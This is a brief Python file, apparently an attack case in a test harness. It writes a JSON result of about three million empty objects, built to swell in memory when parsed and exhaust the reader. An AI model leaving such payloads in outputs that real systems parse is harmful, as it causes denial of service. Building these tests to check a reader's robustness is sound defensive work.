"""
Leaves a result of as many values as fit, of which each takes many times its bytes when it is read.
"""

from support.leaving import leave_result

VALUES = 3_000_000


def attack(target):
    leave_result(b'{"result": {"rows": [' + b"{}," * VALUES + b"{}]}}")
